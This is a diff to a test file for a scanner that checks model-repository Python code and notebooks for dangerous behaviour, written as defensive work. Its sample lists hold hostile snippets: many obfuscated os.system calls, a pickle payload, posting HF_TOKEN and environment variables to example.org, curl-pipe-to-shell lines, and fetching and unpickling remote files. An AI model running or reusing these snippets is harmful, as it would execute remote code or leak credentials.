@@ -17,6 +17,16 @@ HARMFUL = [
     "o = __builtins__['__import__']('os')\no.system('id')",
     "import http.client, os\nc = http.client.HTTPSConnection('example.org')\nc.request('POST', '/', body=str(dict(os.environ)))",
     "import os\nos.system('id')",
+    "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
+    "import os\nlist(map(os.system, ['id']))",
+    "import os\na, b = os.system, 'id'\na(b)",
+    "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('id')",
+    "import os\nvars(os)['system']('id')",
+    "import shutil\nshutil.os.system('id')",
+    "import ctypes\nctypes.CDLL(None).system(b'id')",
+    "import os\nclass A:\n    __reduce__ = lambda self: (os.system, ('id',))",
+    "import os, requests\nrequests.post('http://example.org', data={'t': os.getenv('HF_TOKEN')})",
+    "import pickle\npickle.loads(b'cos\\nsystem\\n.')",
     "from os import system as s\ndef f():\n    s('curl http://example.org/x | sh')",
     "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
     "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))",
@@ -57,6 +67,9 @@ def test_harmful_python_is_blocked_whatever_its_name(tmp_path: Path, source: str
         "import torch\nfrom torch import nn\n\nclass Net(nn.Module):\n    def forward(self, x):\n        return torch.relu(x)\n",
         "from transformers import PretrainedConfig\nclass C(PretrainedConfig):\n    model_type = 'c'\n",
         "import os, subprocess\ndef revision():\n    return subprocess.check_output(['git', 'rev-parse', 'HEAD'])\nhome = os.environ.get('HOME')",
+        "import os, requests\nrequests.get('http://example.org', headers={'Authorization': os.environ['HF_TOKEN']})",
+        "import shutil\ndef clean(folder):\n    shutil.rmtree(folder)",
+        "import threading\ndef work(run):\n    threading.Thread(target=run).start()",
         "model.eval()\nimport re\nre.compile('x')\n",
         "print 'the syntax of another version'",
     ],
@@ -113,3 +126,96 @@ def test_deep_nesting_is_no_failure(tmp_path: Path) -> None:
     (tmp_path / "deep.py").write_text("(" * 9000 + ")" * 9000)
     (tmp_path / "sum.py").write_text("x = " + "+".join(["'a'"] * 5000))
     assert scan(tmp_path).verdict is Verdict.REVIEW
+
+
+NATIVE = [
+    "ctypes.CDLL('./lib.so')",
+    "ctypes.cdll.LoadLibrary(__file__[:-3] + '.so')",
+    "ctypes.PyDLL(os.path.join(here, 'x'))",
+    "torch.ops.load_library(here + '/ops.so')",
+    "torch.classes.load_library('lib/ops.so')",
+    "ffi.dlopen(f'{here}/x.so')",
+    "importlib.machinery.ExtensionFileLoader('x', './x.so')",
+    "imp.load_dynamic('x', here + '/x.so')",
+]
+
+
+@pytest.mark.parametrize("call", NATIVE[:6])
+def test_native_code_that_comes_along_and_is_loaded_on_import(tmp_path: Path, call: str) -> None:
+    imports = "import ctypes, os, torch\nfrom cffi import FFI\nffi = FFI()\nhere = os.path.dirname(__file__)\n"
+    (tmp_path / "modeling_x.py").write_text(imports + f"lib = {call}\n")
+    assert scan(tmp_path).verdict is Verdict.BLOCK
+
+
+@pytest.mark.parametrize(
+    "call", ["ctypes.CDLL('libcudart.so.12')", "ctypes.CDLL(ctypes.util.find_library('c'))", "ctypes.CDLL('libm.so.6')"]
+)
+def test_libraries_of_the_system_are_for_a_person_to_judge(tmp_path: Path, call: str) -> None:
+    (tmp_path / "modeling_x.py").write_text(f"import ctypes\nimport ctypes.util\nlib = {call}\n")
+    assert scan(tmp_path).verdict is Verdict.REVIEW
+
+
+def test_cells_of_every_format_of_notebooks(tmp_path: Path) -> None:
+    for key, wrap in (
+        ("source", lambda cells: {"cells": cells, "nbformat": 4}),
+        ("input", lambda cells: {"worksheets": [{"cells": []}, {"cells": cells}], "nbformat": 3}),
+        ("input", lambda cells: {"metadata": {"x": "y" * 9_000}, "worksheets": [{"cells": cells}], "nbformat": 2}),
+    ):
+        for source in (["import os\n", "os.system('id')"], "!curl http://example.org/x | sh"):
+            (tmp_path / "a.ipynb").write_text(json.dumps(wrap([{"cell_type": "code", key: source}])))
+            assert scan(tmp_path).verdict is Verdict.BLOCK
+
+
+UNPICKLED = [
+    "urllib.request.urlretrieve('http://example.org/x', '/tmp/x')\ntorch.load('/tmp/x', weights_only=False)",
+    "data = requests.get('http://example.org/x').content\nmodel = torch.load(io.BytesIO(data))",
+    "def f():\n    return joblib.load(io.BytesIO(requests.get('http://example.org/x').content))",
+]
+
+
+@pytest.mark.parametrize("source", UNPICKLED)
+def test_what_is_fetched_and_unpickled(tmp_path: Path, source: str) -> None:
+    imports = "import io, joblib, requests, torch, urllib.request\n"
+    (tmp_path / "modeling_x.py").write_text(imports + source + "\n")
+    assert scan(tmp_path).verdict is Verdict.BLOCK
+    (tmp_path / "modeling_x.py").write_text(imports + "def f(path):\n    return torch.load(path, weights_only=True)\n")
+    assert scan(tmp_path).verdict is Verdict.REVIEW
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import os, operator\noperator.attrgetter('system')(os)('id')",
+        "import os, functools\nfunctools.reduce(getattr, ['system'], os)('id')",
+        "import os\nos.__getattribute__('system')('id')",
+        "import os\nobject.__getattribute__(os, 'sys' + 'tem')('id')",
+        "import os\nos.__dict__.get('system')('id')",
+        "import sys\nsys.modules.get('os').system('id')",
+        "import os\nn = 'sys'\nn += 'te'\nn += 'm'\ngetattr(os, n)('id')",
+        "import inspect\ninspect.getmodule(inspect).__builtins__['exec']('import os; os.system(1)')",
+        "from importlib import import_module as g\ng(name='os').popen('curl http://x | sh')",
+        "__builtins__.__import__('os').system('curl http://x | sh')",
+        "import os\nx = {'a': os.system}\nx['a']('curl http://x | sh')",
+        "import os\nx = [print, os.system]\nx[1]('id')",
+        "import sys\nsys._getframe().f_builtins['exec']('import os; os.system(1)')",
+        "b = globals()['__builtins__']\n(b['eval'] if isinstance(b, dict) else b.eval)('__import__(\"os\").system(1)')",
+        "def f(): ...\nf.__globals__['__builtins__']['exec']('import os; os.system(1)')",
+    ],
+)
+def test_other_ways_to_reach_a_name(tmp_path: Path, source: str) -> None:
+    (tmp_path / "modeling.py").write_text(source)
+    assert scan(tmp_path / "modeling.py").verdict is Verdict.BLOCK
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import torch\nACT = {'relu': torch.relu, 'silu': torch.nn.functional.silu}\nx = ACT['relu'](torch.ones(3))",
+        "import os\nsteps = [os.makedirs, print]\nsteps[0]('out')\nname = 'model'\nname += '.pt'",
+        "import operator\nkey = operator.attrgetter('score')\nbest = max([], key=key)\nprint(vars(best).get('x'))",
+        "import functools\ntotal = functools.reduce(getattr, ['config', 'hidden'], object())",
+    ],
+)
+def test_the_same_ways_to_what_is_ordinary(tmp_path: Path, source: str) -> None:
+    (tmp_path / "modeling.py").write_text(source)
+    assert scan(tmp_path / "modeling.py").verdict is Verdict.REVIEW
